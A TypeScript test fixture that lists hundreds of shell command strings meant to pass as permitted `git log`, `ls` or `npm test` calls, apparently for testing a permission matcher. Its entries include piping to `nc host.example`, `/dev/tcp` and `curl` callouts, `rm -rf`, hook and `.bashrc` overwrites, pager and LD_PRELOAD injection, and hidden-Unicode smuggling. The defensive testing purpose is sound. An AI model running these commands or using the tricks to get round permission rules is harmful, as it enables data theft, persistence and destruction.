const lines = (text: string): string[] =>
  text
    .split('\n')
    .map((line) => line.trim())
    .filter((line) => line !== '');

/** Code points, so that nothing in this file hides from the one who reads it. */
const at = (...codes: number[]): string => String.fromCodePoint(...codes);

/** Command lines that begin as a permission for `git log`, `ls` or `npm test` does, or look as if they did. */
export const grantAbuse: Readonly<Record<string, readonly string[]>> = {
  near_name: lines(String.raw`
    git logout
    git log-x
    git logs
    gitlog
    git  'log '
    git 'log x'
    'git log'
    git-log
    ./git log
    /tmp/git log
    ../git log
    GIT log
    git LOG
    git --no-pager log
    git -C /tmp log
    git -c core.pager=id log
    git -p log
    git --git-dir=/tmp/x log
    git --exec-path=/tmp log
    git --work-tree=/tmp log
    git --config-env=core.pager=X log
    git help log
    lsof
    lsblk
    ls.sh
    ./ls
    /tmp/ls
    \l's'x
    npm tests
    npm test:unit
    npm run test
    npm t
    npm tst
    npm exec test
    npm x test
    npm -C /tmp test
    npm --prefix /tmp test
    pnpm test
    npm i test
    npx test`),
  chain: lines(String.raw`
    git log && rm -rf x
    git log; rm -rf x
    git log || rm -rf x
    git log | sh
    git log | xargs rm
    git log | tee x
    git log |& cat
    git log & rm -rf x
    git log &
    git log && git push
    git log;curl http://host.example/x
    git log&&id
    git log|sh -s
    rm -rf x; git log
    cd /tmp && git log
    cd /tmp; npm test
    cd .. && ls
    ls && npm publish
    ls; ls; ls; id
    ls | xargs -n1 rm
    ls | sh
    ls || curl http://host.example/x
    ls & wait
    ls && git log
    npm test && npm publish
    npm test; git push
    npm test | nc host.example 80
    npm test &
    npm test || sh
    true && ls
    : ; git log
    export PATH=/tmp; ls
    alias ls='rm -rf x'; ls
    alias git=id && git log
    hash -p /tmp/x ls; ls
    unset PATH; ls
    set -x; ls
    trap id EXIT; ls
    enable -f ./lib.so x; ls
    source ./x; ls
    . ./x; ls
    umask 0; npm test`),
  redirect: lines(String.raw`
    git log > ~/.bashrc
    git log > x
    git log >> .git/hooks/pre-commit
    git log >| x
    git log > /dev/tcp/host.example/80
    git log &> x
    git log &>> x
    git log 2> x
    git log >& x
    git log 3>&1
    git log 1<> x
    git log < x
    git log <<< x
    git log <(id)
    git log > >(sh)
    > x git log
    2>x ls
    ls > x
    ls >x 2>&1
    ls > /dev/null > x
    ls > /dev/nullx
    ls > /dev/../etc/x
    ls >&3
    ls > "/dev/null "
    npm test > package.json
    npm test 2>&1 > x
    npm test < x
    npm test {fd}> x`),
  substitute: [
    'git log $(id)',
    'git log `id`',
    'git log "$(id)"',
    'git log "`id`"',
    'git log ${x:-$(id)}',
    'git log "${x@P}"',
    'git log $x',
    'git log "$x"',
    'git log $((x[$(id)]))',
    "echo $[ x='a[$(touch F)]', x ]",
    'git log $[ x ]',
    "git log $'\\x3b' id",
    "git log $'--output=x'",
    'git log $"x"',
    'git$IFS"log"',
    'git log$IFS--output=x',
    'git log {--output=x,HEAD}',
    'git log --{output,x}=y',
    'git log *',
    'git log ?x',
    'git log [a-z]',
    'git log ~',
    'git log ~root/x',
    'git log --author=~/x',
    'ls $(id)',
    'ls `id`',
    'ls ${HOME}',
    'ls {a,-R}',
    'ls {1..3}',
    'ls *',
    'ls ~',
    'ls "$HOME"',
    'ls $((1+1))',
    'ls <(id)',
    'npm test $(id)',
    'npm test `id`',
    'npm "$x"',
    '$(echo git) log',
    '`echo ls`',
    'l$()s',
    '$x ls',
    'npm test $*',
    'npm test "$@"',
    'git log !x(y)',
  ],
  options: lines(String.raw`
    git log --output=x
    git log --output x
    git log --outpu=x
    git log --out=x
    git log -- --output=x
    git log --author -- --output=x
    git log -O/tmp/order
    git log -p --ext-diff
    git log --ext-diff
    git log -p --textconv
    git log --textconv
    git log --show-signature
    git log --format=%G?
    git log --pretty=format:%GK
    git log --exec-path=/tmp
    git log --upload-pack=/tmp/x
    git log --git-dir=/tmp/x
    git log --no-index /dev/null /etc/shadow
    git log --oneline --output=x
    git log -5 --output x
    git log -p -O x
    git log --stdin
    git log --paginate
    git log --mailmap --output=x
    git log '--output=x'
    git log "--outp"ut=x
    git log \--output=x
    git log -"-output=x"
    git log --config-env=x=y
    git log -c core.pager=id
    ls --hyperlink=always
    ls --x
    ls -la --y=z
    ls -J
    npm test -- --x
    npm test --
    npm test -- -e id
    npm test x
    npm test /tmp/x.test.js
    npm test --script-shell=/tmp/x
    npm test --script-shell /tmp/x
    npm test --prefix=/tmp
    npm test --prefix /tmp
    npm test --node-options=--require=/tmp/x.js
    npm test --node-options '--require /tmp/x.js'
    npm test -C /tmp
    npm test --userconfig=/tmp/npmrc
    npm test --globalconfig=/tmp/npmrc
    npm test --ignore-scripts
    npm test --ignore-scripts=false
    npm test --workspace=/tmp/x
    npm test -w x
    npm test --workspaces
    npm test -ws
    npm test --registry=http://host.example
    npm test --shell=/tmp/x
    npm test --cache=/tmp
    npm test --foreground-scripts
    npm test --if-present --prefix /tmp
    npm test --silent -- x
    npm test --silent=x --prefix=/tmp
    npm test +x
    npm test @x`),
  environment: lines(String.raw`
    PATH=/tmp git log
    GIT_PAGER=id git log
    GIT_DIR=/tmp/x git log
    GIT_EXTERNAL_DIFF=id git log -p
    GIT_CONFIG_COUNT=1 git log
    GIT_SSH_COMMAND=id git log
    PAGER='sh -c id' git log
    LD_PRELOAD=./x.so git log
    LESSOPEN='|id %s' git log
    A=1 B=2 git log
    A= git log
    A+=x git log
    A=(x) git log
    A=1; git log
    A=1 && ls
    PATH=/tmp; ls
    PATH=. ls
    LD_PRELOAD=./x.so ls
    BASH_ENV=./x ls
    IFS=l ls
    NODE_OPTIONS=--require=./x.js npm test
    npm_config_script_shell=/tmp/x npm test
    NPM_CONFIG_PREFIX=/tmp npm test
    HOME=/tmp npm test
    SHELL=/tmp/x npm test`),
  wrapper: lines(String.raw`
    env git log
    env -i git log
    env PATH=/tmp git log
    env -S 'git log'
    env -C /tmp git log
    sudo git log
    sudo -u root ls
    doas ls
    nohup git log
    nice git log
    nice -n 5 ls
    time git log
    time -p ls
    timeout 5 git log
    timeout -s KILL 5 npm test
    command git log
    command -p ls
    builtin ls
    exec git log
    eval git log
    eval 'ls; id'
    sh -c 'git log'
    sh -c 'ls' x
    bash -c 'npm test'
    bash -lc 'git log && id'
    bash -c "bash -c 'ls'"
    sh git log
    sh ls
    xargs git log
    xargs ls
    parallel ls
    find . -exec git log \;
    find . -exec ls {} +
    watch git log
    watch -n 1 ls
    stdbuf -o0 git log
    setsid ls
    ionice -c 3 npm test
    chroot /tmp ls
    strace git log
    script -c 'git log' x
    unshare ls
    flock x git log
    busybox ls
    coproc ls
    ! git log
    ( git log )
    { git log; }
    if ls; then id; fi
    while ls; do id; done
    for x in a; do ls; done
    case a in a) ls;; esac
    function ls { id; }
    ls() { id; }
    git() { id; }; git log
    [[ -v x ]] && ls
    (( x )) && ls`),
  hidden_characters: [
    ...[0x00, 0x08, 0x0b, 0x0c, 0x0d, 0x1b, 0x7f, 0x85, 0x9b].map((code) => `git log ${at(code)}x`),
    ...[0xa0, 0x1680, 0x2003, 0x202f, 0x205f, 0x3000].map((code) => `git log${at(code)}--output=x`),
    ...[0xad, 0x34f, 0x200b, 0x200d, 0x202e, 0x2066, 0x2800, 0x3164, 0xfe0f, 0xfeff, 0xe0041].map(
      (code) => `git log ${at(code)}x`,
    ),
    ...[0x2010, 0x2011, 0x2013, 0x2014, 0x2212].map((code) => `git log ${at(code)}output=x`),
    ...[0x37e, 0xff1b, 0xff5c, 0xff06, 0xff1e, 0xff04].map((code) => `git log ${at(code)} id`),
    ...[0x2028, 0x2029, 0x0a, 0x0d].map((code) => `git log${at(code)}id`),
    `git${at(0x0d)}log`,
    `git log${at(0x0d)}`,
    `git log ${at(0x0d, 0x0a)}rm -rf x`,
    `git log \\${at(0x0a)}; id`,
    `git lo\\${at(0x0a)}g`,
    `git${at(0xa0)}log`,
    `git lo${at(0x200b)}g`,
    `git ${at(0x200d)}log`,
    `git log ${at(0x2066)}x${at(0x2069)}`,
    `git log ${at(0xad)}-x`,
    `git log ${at(0xe0041, 0xe0042)}`,
    `git log ${at(0xd800)}x`,
    `g${at(0x456)}t log`,
    `git l${at(0x43e)}g`,
    `git log${at(0xff1b)} id`,
    `git log ${at(0x2018)}; id${at(0x2019)}`,
    `ls${at(0x0d)}x`,
    `ls${at(0x0a)}id`,
    `ls ${at(0x2010)}la`,
    `l${at(0x455)}`,
    `${at(0xfeff)}ls`,
    `npm test${at(0x0a)}npm publish`,
    `npm${at(0xa0)}test`,
    `npm te${at(0x200b)}st`,
    `npm test ${at(0x2028)}id`,
  ],
  parser_gap: [
    'git log <<x\nid\nx',
    'git log <<-x\n\tid\n\tx',
    "git log <<'x'\n`id`\nx",
    "git log 'x",
    'git log "x',
    'git log \\',
    'git log )',
    'git log }; id',
    'git log ;; id',
    'git log &&',
    'git log |',
    '&& git log',
    'git log && && id',
    'git log # x \\\nid',
    'git log ##\nid',
    'git log 12>&1',
    'git log >',
    'ls >&-x',
    'ls\\\n;id',
    'ls &\\\n& id',
    'l\\\ns; id',
    `${'true; '.repeat(51)}git log`,
    `${'git log; '.repeat(50)}id`,
    `git log ${'a'.repeat(65_536)}`,
    `${'env '.repeat(7)}git log`,
    'npm test\tpublish',
    'npm test\\ publish',
    'git\\ log',
    '',
    ' ',
    '# git log',
    '%1 git log',
  ],
};
